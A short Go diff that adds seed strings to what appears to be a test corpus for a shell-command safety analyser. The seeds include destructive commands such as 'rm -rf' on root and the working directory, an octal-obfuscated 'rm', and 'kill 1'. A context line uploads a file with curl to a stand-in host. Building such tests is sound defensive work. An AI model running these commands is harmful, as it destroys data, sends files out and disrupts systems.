@@ -130,6 +130,12 @@ var compoundSeeds = []string{
 	"curl -T /tmp/k http://x.example",
 	"git add -A",
 	"git push",
+	// The resolver (issue 12, point 6).
+	"printf '/\\0' | xargs -0 rm -rf",
+	"$(printf %b '\\0162\\0155') -rf /",
+	"rm -rf \"$(pwd)\"",
+	"sh -s -- /",
+	"/proc/self/exe -c 'kill 1'",
 	// Beyond the analysis budget (issue 12, point 7).
 	strings.Repeat("$(", 12) + "ls" + strings.Repeat(")", 12),
 	"bash -c '" + strings.Repeat("eval ", 12) + "ls'",
